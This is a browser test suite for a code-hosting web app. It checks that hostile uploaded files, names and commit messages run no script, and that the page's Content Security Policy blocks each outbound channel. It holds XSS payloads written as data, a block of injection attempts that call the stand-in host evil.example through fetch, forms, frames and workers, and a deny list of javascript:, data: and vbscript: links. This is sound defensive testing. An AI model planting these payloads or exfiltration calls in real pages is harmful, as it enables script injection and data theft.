"""Other people's bytes and names run nothing and reach no other host: the browser's own log says so."""

import urllib.parse

import hostile
import pytest
from browser import eventually
from long_tests import LONG
from playwright.sync_api import expect

# Logged by the browser when it refuses to play or decode.
EXPECTED = ["ERR_", "Failed to load resource: the server responded with a status of 404"]


# A message of the browser about a part of a file that the policy of the page refuses.
VIOLATES = "violates the following Content Security Policy directive"

# Resolves when all that the document had begun is over: an image that is asked for later has come or failed, and tasks and frames were run.
SETTLED = """async () => {
  await new Promise((resolve) => {
    const later = new Image()
    later.onload = later.onerror = resolve
    later.src = '/icon.svg?' + Math.random()
  })
  for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame)
  await new Promise((resolve) => setTimeout(resolve))
}"""


def look(window, page, repository, path):
    window.go(f"/r/{repository}/main/data?object={urllib.parse.quote(path)}")
    details = page.get_by_role("complementary", name="Details")
    expect(details.get_by_role("heading", name="History of this path")).to_be_visible()
    expect(details.get_by_role("status", name="Loading")).to_have_count(0)
    page.evaluate(SETTLED)


def test_a_script_of_an_object_would_have_run_by_then(open_window):
    """Without the policy of the page, of which the other tests show that it refuses the same."""
    window = open_window(bypass_csp=True).sign_in()
    window.expect_problem("404")
    page = window.go("/")
    expect(page.get_by_role("heading", name="Repositories")).to_be_visible()
    page.evaluate(
        """() => document.body.insertAdjacentHTML('beforeend', '<img src="/no-such-image" onerror="window.owned = true">')"""
    )
    page.evaluate(SETTLED)
    assert page.evaluate("window.owned") is True


def not_owned(page):
    assert page.evaluate("window.owned") is None, "a script of an object ran"
    assert page.evaluate("({}).owned") is None, "an object changed the prototype"


@pytest.fixture(scope="module")
def hostile_repository(tarn):
    import outcome

    rest = outcome.Outcome(tarn)
    rest.repository("hostile", paths="any")
    for path, (data, content_type) in hostile.FILES.items():
        rest.upload("hostile", path, data, content_type=content_type)
    rest.commit("hostile", "<script>window.owned=true</script>", **{"<b>key</b>": "<img src=x onerror=window.owned=true>"})
    return "hostile"


@pytest.mark.parametrize("path", list(hostile.FILES))
def test_nothing_runs_when_it_is_shown(window, hostile_repository, path):
    for text in EXPECTED:
        window.expect_problem(text)
    page = window.page
    if path.endswith(".ipynb"):  # a table in it is parsed at once
        window.expect_problem(VIOLATES)
    look(window, page, hostile_repository, path)
    not_owned(page)
    rendered = page.get_by_role("button", name="Show rendered")
    if rendered.count() and rendered.is_visible():
        # The policy of the page holds even where the file is only parsed, and the browser logs what it refuses.
        window.expect_problem(VIOLATES)
        rendered.click()
        frame = page.frame_locator("iframe")
        expect(frame.get_by_text("Visible text")).to_be_visible()
        page.evaluate(SETTLED)
        assert page.locator("iframe").get_attribute("sandbox") == ""
        assert "evil.example" not in page.locator("iframe").get_attribute("srcdoc")
    else:
        source = page.get_by_role("button", name="Show source")
        if source.count() and source.is_visible():
            source.click()
            page.evaluate(SETTLED)
    not_owned(page)
    if LONG:  # test_preview.py looks at each kind of view
        window.axe()


def test_links_of_markdown_stay_harmless(window, hostile_repository):
    for text in EXPECTED:
        window.expect_problem(text)
    page = window.page
    look(window, page, hostile_repository, "README.md")
    for place in (page.get_by_role("complementary", name="Details"), page.get_by_role("region", name="README.md")):
        expect(place.get_by_role("heading", name="Visible heading")).to_be_visible()
    addresses = page.eval_on_selector_all("a", "links => links.map(link => link.getAttribute('href') ?? '')")
    assert not [address for address in addresses if address.lower().startswith(("javascript:", "data:", "vbscript:"))], addresses


def test_names_of_every_kind_are_listed_as_text(window, hostile_repository):
    page = window.go(f"/r/{hostile_repository}/main/data")
    for path in hostile.FILES:
        expect(page.get_by_role("grid", name="Objects")).to_contain_text(path[-12:].replace("\u202e", "[U+202E]"))
    not_owned(page)
    window.review("hostile-names")


def test_a_raw_download_runs_nothing_either(window, tarn, hostile_repository):
    for path in ("page.html", "drawing.svg", "page.xhtml", "lie.png"):
        answer = window.context.request.get(f"/api/v1/repositories/hostile/refs/main/objects?path={path}")
        assert answer.headers["content-security-policy"].find("sandbox") >= 0
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-disposition"].startswith("attachment")


# Every directive, so that none is weakened without a test that says so. None has unsafe-inline, unsafe-eval or a host.
POLICY = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' blob: data:",
    "media-src": "'self' blob:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "worker-src": "'self'",
    "frame-src": "'self' blob:",
    "manifest-src": "'self'",
    "form-action": "'self'",
    "base-uri": "'none'",
    "object-src": "'none'",
    "frame-ancestors": "'none'",
}

# Attempts of a script of an object, by the directive that refuses each.
ATTEMPTS = """
    const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
    const inline = document.createElement('script');
    inline.textContent = 'window.owned = true';
    document.body.append(inline);                                                             // script-src-elem
    add('<b onclick="window.owned = true" id="pressed">x</b>');
    document.getElementById('pressed').click();                                               // script-src-attr
    document.head.insertAdjacentHTML('beforeend', '<style>body { color: red }</style>');      // style-src-elem
    add('<i style="color: red">x</i>');                                                       // style-src-attr
    add('<img src="https://evil.example/x.png">');                                            // img-src
    add('<video src="https://evil.example/x.mp4" autoplay></video>');                         // media-src
    add('<iframe src="https://evil.example/"></iframe>');                                     // frame-src
    add('<object data="https://evil.example/x.swf"></object>');                               // object-src
    document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');     // base-uri
    try { new Worker('https://evil.example/x.js'); } catch { /* another origin */ }
    try { new Worker(URL.createObjectURL(new Blob(['0']))); } catch { /* refused */ }         // worker-src
    new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => undefined);      // font-src
    fetch('https://evil.example/').catch(() => undefined);                                    // connect-src
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();                                                                            // form-action
"""
REFUSED = {
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "style-src-attr",
    "img-src",
    "media-src",
    "frame-src",
    "object-src",
    "base-uri",
    "worker-src",
    "font-src",
    "connect-src",
    "form-action",
}


def test_the_policy_of_the_page_refuses_each_way_out(window):
    page = window.go("/")
    expect(page.get_by_role("heading", name="Repositories")).to_be_visible()
    for text in ("Content Security Policy", "ERR_", "violates", "Failed to construct 'Worker'"):
        window.expect_problem(text)
    page.evaluate("""() => {
        window.refused = [];
        document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
    }""")
    page.evaluate(f"() => {{ {ATTEMPTS} }}")
    page.evaluate(SETTLED)
    eventually(page, lambda: set(page.evaluate("window.refused")) >= REFUSED)
    not_owned(page)
    assert page.url.startswith(window.server.url)
    window.leave()  # the document is no longer that of the interface


def test_the_policy_of_the_page_is_this_one(window):
    headers = window.context.request.get("/").headers
    policy = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";") if part.strip())
    assert policy == POLICY
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"


def test_the_page_cannot_be_framed(window):
    """By a page of another origin: 127.0.0.1 and localhost are two."""
    page = window.page
    window.expect_problem("frame-ancestors")
    window.expect_problem("Refused to display")
    window.expect_problem("ERR_BLOCKED_BY_RESPONSE")
    page.route(
        "**/framing",
        lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{window.server.url}/login"></iframe>'),
    )
    page.goto(f"{window.server.url}/framing".replace("127.0.0.1", "localhost"))
    eventually(page, lambda: any(frame.url.startswith("chrome-error:") for frame in page.frames))
    assert page.frame_locator("iframe").get_by_role("heading").count() == 0
    window.problems = [problem for problem in window.problems if "another host" not in problem]
